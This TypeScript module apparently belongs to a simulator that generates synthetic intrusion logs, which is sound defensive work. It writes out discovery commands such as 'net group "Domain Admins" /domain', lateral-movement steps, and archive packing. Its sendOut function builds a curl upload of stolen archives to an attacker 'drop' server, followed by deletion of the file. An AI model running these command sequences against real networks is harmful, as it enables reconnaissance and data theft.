import type { Instant } from '../../../src/model/time.ts'
import { after } from '../../chance.ts'
import { dayOf, vpnAddress } from '../../life/calendar.ts'
import { system32 } from '../../life/desk.ts'
import type { Placed } from '../../records/place.ts'
import { createFile, deleteFile, type Running, start } from '../../records/processes.ts'
import { asker, share } from '../../records/security.ts'
import type { Place } from '../../records/sign-ins.ts'
import type { Person } from '../../records/who.ts'
import type { Host, Share } from '../../world.ts'
import type { Play, RemoteProcess } from '../campaign.ts'

// What an operator does with what is there: acts that several campaigns have in common. Each takes its time from the clock.

/** A shell that an operator has on a computer, and in whose name. */
export interface Shell {
  readonly host: Host
  readonly account: Person
  readonly process: Running
}

/** Where the creation of these processes is recorded. */
export function placesOf(...processes: readonly Running[]): readonly Placed[] {
  return processes.flatMap(({ place }) => place ?? [])
}

/** One more command in a shell, after the operator's pause. */
export function typed(
  play: Play,
  shell: Shell,
  command: readonly [image: string, commandLine: string],
  haste: 'typing' | 'thinking' = 'thinking',
): Running {
  const [image, commandLine] = command
  return start(shell.process, play.clock.next(haste), { image: system32(image), commandLine })
}

/** Whom an act in a shell is about. */
export function about(play: Play, { host, account }: Shell): ReturnType<Play['host']>[] {
  return [play.host(host), play.user(account)]
}

interface OpenShell {
  readonly from: Host
  readonly to: Host
  readonly account: Person
  readonly by: Extract<RemoteProcess['by'], 'wmi' | 'remote shell' | 'desktop'>
  readonly method?: 'Kerberos' | 'NTLM'
}

const WAYS = {
  wmi: { technique: 'T1047', port: 135, words: 'through WMI' },
  'remote shell': { technique: 'T1021.006', port: 5985, words: 'through WinRM' },
  desktop: { technique: 'T1021.001', port: 3389, words: 'through a remote desktop' },
} as const

/** Goes on to another computer and opens a shell there: a step of its own. */
export function openShell(play: Play, { from, to, account, by, method = 'Kerberos' }: OpenShell): Shell {
  const { chance, clock } = play
  const { technique, port, words } = WAYS[by]
  const time = clock.next()
  const { session, events } = play.remoteLogon({
    time,
    from,
    to,
    account,
    method,
    type: by === 'desktop' ? 10 : 3,
    isAdministrator: true,
  })
  const wire =
    by === 'desktop'
      ? []
      : play.connection(after(time, 0.4), {
          from: play.addressOf(from, time),
          to: to.address,
          port,
          bytesOut: 2000 + chance.whole(0, 20_000),
          bytesIn: 3000 + chance.whole(0, 60_000),
          seconds: chance.logNormal(4, 1),
        })
  const process = play.remoteProcess({
    host: to,
    time: after(time, 1.2 + chance.next() * (by === 'desktop' ? 50 : 3)),
    session,
    by,
    image: system32('cmd.exe'),
    commandLine: by === 'desktop' ? `"${system32('cmd.exe')}"` : chance.pick(['cmd.exe', 'cmd.exe /Q', 'cmd /D']),
  })
  const shell = { host: to, account, process }
  play.step({
    stage: 'spread',
    technique,
    what: `${account.account} opens a shell on ${to.name} from ${from.name}, ${words}`,
    subjects: about(play, shell),
    events: [events, wire, placesOf(process)],
  })
  clock.goTo(after(process.started, 1))
  return shell
}

type Look = readonly [technique: string, image: string, lines: readonly string[], what: string]

const LOOKS: readonly Look[] = [
  ['T1033', 'whoami.exe', ['whoami', 'whoami /all', 'whoami /groups'], 'asks whose name they work in'],
  ['T1016', 'ipconfig.exe', ['ipconfig /all', 'ipconfig'], 'asks for the network’s settings'],
  ['T1049', 'NETSTAT.EXE', ['netstat -ano', 'netstat -anp tcp'], 'asks for open connections'],
  ['T1057', 'tasklist.exe', ['tasklist /v', 'tasklist /svc'], 'lists processes'],
  ['T1082', 'systeminfo.exe', ['systeminfo'], 'asks what computer this is'],
  ['T1007', 'sc.exe', ['sc query', 'sc queryex type= service'], 'lists services'],
  ['T1033', 'quser.exe', ['quser', 'quser /server:localhost'], 'asks who is logged on'],
  ['T1018', 'net.exe', ['net view', 'net view /domain'], 'looks for other computers'],
  ['T1087.002', 'net.exe', ['net user /domain', 'net accounts /domain'], 'lists accounts of the directory'],
  ['T1069.002', 'net.exe', ['net group "Domain Admins" /domain', 'net group /domain'], 'lists groups of the directory'],
  ['T1482', 'nltest.exe', ['nltest /domain_trusts', 'nltest /trusted_domains'], 'asks which domains are trusted'],
  ['T1016', 'ARP.EXE', ['arp -a', 'arp -a -v'], 'asks for the neighbours in the network'],
]

/** Some commands that look around, one after the other, each a step. */
export function lookAround(play: Play, shell: Shell, count: number): void {
  for (const [technique, image, lines, what] of play.chance.sample(LOOKS, count)) {
    const process = typed(play, shell, [image, play.chance.pick(lines)], play.chance.pick(['typing', 'thinking']))
    play.step({ stage: 'discovery', technique, what, subjects: about(play, shell), events: placesOf(process) })
  }
}

/** A command with a typing error, which does nothing, and the right one after it. */
export function mistyped(play: Play, shell: Shell, image: string, words: string): void {
  const program = image.slice(0, image.lastIndexOf('.')).toLowerCase()
  const wrong = typed(play, shell, [image, `${program} ${play.actor.mistyped(words)}`])
  play.step({
    stage: 'discovery',
    technique: 'T1059.003',
    what: 'a mistyped command fails',
    subjects: about(play, shell),
    events: placesOf(wrong),
  })
  const right = typed(play, shell, [image, `${program} ${words}`], 'typing')
  play.step({
    stage: 'discovery',
    technique: 'T1087.002',
    what: 'the command again, without the error',
    subjects: about(play, shell),
    events: placesOf(right),
  })
}

interface Reading {
  readonly from: Host
  readonly account: Person
  readonly share: Share
  readonly count: number
  readonly method?: 'Kerberos' | 'NTLM'
  /** Seconds between two files; a person who reads takes longer than a copy. */
  readonly pace?: number
}

/** Reads files of a share over the network; gives the references and the time at which the last one was read. */
export function readShare(
  play: Play,
  { from, account, share: place, count, method = 'Kerberos', pace = 2 }: Reading,
): { readonly events: readonly Placed[]; readonly ended: Instant } {
  const { chance, clock, world } = play
  const to = world.hosts.find(({ name }) => name === place.host)
  if (to === undefined) return { events: [], ended: clock.now() }
  const time = clock.next()
  const address = play.addressOf(from, time)
  const { session, events } = play.remoteLogon({ time, from, to, account, method })
  const files = chance.sample(place.files, count)
  const read = share(play.log(to, time), asker(account, session), after(time, 0.3 + chance.next()), {
    name: place.name,
    localPath: place.localPath,
    from: address,
    files,
    secondsBetween: pace * (0.6 + 0.8 * chance.next()),
  })
  const ended = read.at(-1)?.time ?? time
  const copied = play.connection(after(time, 0.2), {
    from: address,
    to: to.address,
    port: 445,
    service: 'gssapi,smb',
    bytesOut: chance.whole(3000, 9000) + files.length * chance.whole(500, 1500),
    bytesIn: files.reduce((sum) => sum + Math.round(chance.logNormal(13, 1.2)), 9000),
    seconds: (ended - time) / 1_000_000 + 1,
  })
  clock.goTo(ended)
  return { events: [...events, ...read, ...copied], ended }
}

/** Packs what was gathered with a program of Windows; gives the archive’s path. */
export function pack(play: Play, shell: Shell, folder: string): string {
  const { actor, chance } = play
  const archive = `${folder}\\${actor.name(`archive ${shell.host.name}`)}.${chance.pick(['zip', 'cab', 'dat'])}`
  const [image, line] = chance.pick([
    ['tar.exe', `tar -caf ${archive} -C ${folder} .`],
    ['makecab.exe', `makecab ${folder}\\${actor.name('list')}.txt ${archive}`],
    ['WindowsPowerShell\\v1.0\\powershell.exe', `powershell -c Compress-Archive ${folder}\\* ${archive}`],
  ] as const)
  const process = typed(play, shell, [image, line])
  const written = createFile(process, after(process.started, 1 + chance.next() * 8), archive)
  play.step({
    stage: 'collection',
    technique: 'T1560.001',
    what: `what was gathered on ${shell.host.name} is packed`,
    subjects: about(play, shell),
    events: [...placesOf(process), written],
  })
  play.clock.goTo(after(written.time, 1))
  return archive
}

/** Sends a file out with a program of Windows, and deletes it afterwards: two steps. */
export function sendOut(play: Play, shell: Shell, path: string, megabytes: number): void {
  const { actor, chance, clock } = play
  const site = actor.server(chance.pick(['drop', 'drop', 'second drop']))
  const process = typed(play, shell, [
    'curl.exe',
    `curl ${chance.pick(['-s ', '-k ', ''])}${chance.pick(['-T ', '--upload-file ', '-F f=@'])}${path} https://${site.name}/${chance.hex(6)}`,
  ])
  const sent = play.reach({
    time: after(process.started, 0.4),
    host: shell.host,
    site,
    process,
    person: shell.account,
    method: 'PUT',
    bytesOut: Math.round(megabytes * 1_000_000 * (0.8 + 0.4 * chance.next())),
    bytesIn: 2000 + chance.whole(0, 3000),
    seconds: megabytes * (0.4 + chance.next()),
  })
  play.step({
    stage: 'exfiltration',
    technique: 'T1048.002',
    what: `the archive leaves ${shell.host.name}`,
    subjects: about(play, shell),
    events: [...placesOf(process), ...sent],
  })
  clock.goTo(after(process.started, megabytes))
  remove(play, shell, path)
}

/** Deletes a file in a shell. */
export function remove(play: Play, shell: Shell, path: string): void {
  const deleted = deleteFile(shell.process, play.clock.next('typing'), path)
  play.step({
    stage: 'covering tracks',
    technique: 'T1070.004',
    what: `a file of theirs on ${shell.host.name} is deleted`,
    subjects: about(play, shell),
    events: [deleted],
  })
}

/** A folder in which files of others lie about too. */
export function folderOf(play: Play): string {
  return play.chance.pick(['C:\\ProgramData', 'C:\\Windows\\Temp', 'C:\\Users\\Public\\Documents', 'C:\\Temp'])
}

/** A computer that is not the organisation's, where its address inside is known. */
export function strangeComputer(play: Play, like: Host, address: string): Host {
  const { actor } = play
  const { chance } = play
  const name = chance.pick([`DESKTOP-${chance.hex(7).toUpperCase()}`, `LAPTOP-${chance.hex(8).toUpperCase()}`])
  return {
    ...like,
    kind: 'desk',
    name: actor.device.name === '' ? name : actor.device.name,
    address,
    isCollected: false,
    hasSysmon: false,
  }
}

/** An address of a home network in that country that the actor rents, and others of theirs for other numbers. */
export function exitIn(play: Play, country: string, number = 0): Place {
  let left = number
  for (let tries = 0; tries < 300; tries += 1) {
    const place = play.actor.exit('residential', tries)
    if (place.country !== country) continue
    if (left === 0) return place
    left -= 1
  }
  return play.actor.exit('residential', number)
}

/** An address inside that the VPN gateway hands out, of the part for an office's people. */
export function insideAddress(play: Play, network: string): string {
  const { world, chance, clock } = play
  const third = Number(network.split('.')[1] ?? 20) + 1
  return vpnAddress(world, third, chance.whole(128, 240), dayOf(world, clock.now()))
}
